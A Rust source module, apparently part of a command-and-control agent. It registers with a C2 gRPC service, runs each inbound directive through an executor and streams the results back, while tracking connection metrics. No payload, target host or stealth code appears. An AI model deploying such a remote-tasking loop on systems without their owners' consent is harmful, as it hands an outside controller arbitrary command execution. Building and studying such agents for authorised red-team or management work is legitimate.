//! Command stream loop: opens `SendCommands`, sends the `register`
//! handshake, then dispatches inbound directives to the [`Executor`] and
//! relays results back on the same stream.

use crate::executor::Executor;
use crate::metrics::AgentMetrics;
use api::gen::c2::v1::{c2_service_client::C2ServiceClient, Command};
use std::sync::Arc;
use thiserror::Error;
use tokio::sync::mpsc;
use tokio_stream::wrappers::ReceiverStream;
use tonic::transport::Channel;
use tonic::{Request, Status};

#[derive(Debug, Error)]
pub enum Error {
    #[error("gRPC status error: {0}")]
    Status(#[from] Status),
}

const OUTBOUND_CHANNEL_CAPACITY: usize = 32;

/// Runs one command-stream session to completion. Returns when the stream
/// breaks, so the caller can apply reconnect backoff.
pub async fn run(
    mut client: C2ServiceClient<Channel>,
    agent_id: String,
    executor: Arc<Executor>,
    metrics: Arc<AgentMetrics>,
) -> Result<(), Error> {
    let (outbound_tx, outbound_rx) = mpsc::channel::<Command>(OUTBOUND_CHANNEL_CAPACITY);

    // Handshake: the first message on the request stream identifies this
    // agent.
    outbound_tx
        .send(Command {
            id: agent_id.clone(),
            command_type: "register".into(),
            payload: Vec::new(),
            timestamp: crate::now_seconds(),
        })
        .await
        .expect("outbound channel just created");

    let response = client
        .send_commands(Request::new(ReceiverStream::new(outbound_rx)))
        .await?;
    let mut inbound = response.into_inner();

    tracing::info!(agent_id = %agent_id, "command stream established");
    metrics.set_connection_status(true);

    loop {
        let msg = match inbound.message().await {
            Ok(Some(msg)) => msg,
            Ok(None) => {
                tracing::info!(agent_id = %agent_id, "command stream closed by server");
                break;
            }
            Err(e) => {
                tracing::warn!(agent_id = %agent_id, error = %e, "command stream error");
                metrics.set_connection_status(false);
                return Err(e.into());
            }
        };

        let directive = String::from_utf8_lossy(&msg.result).into_owned();
        let executor = executor.clone();
        let outbound_tx = outbound_tx.clone();
        let metrics = metrics.clone();
        let command_id = msg.command_id;

        tokio::spawn(async move {
            let start = std::time::Instant::now();
            let result = executor.execute(&directive).await;
            let elapsed = start.elapsed();
            metrics.set_last_command_latency(elapsed.as_secs_f64());
            tracing::debug!(command_id = %command_id, latency_ms = elapsed.as_millis(), "directive executed");

            let reply = Command {
                id: command_id,
                command_type: "response".into(),
                payload: result,
                timestamp: crate::now_seconds(),
            };
            if outbound_tx.send(reply).await.is_err() {
                tracing::warn!("failed to send command response; stream likely closed");
            }
        });
    }

    metrics.set_connection_status(false);
    Ok(())
}
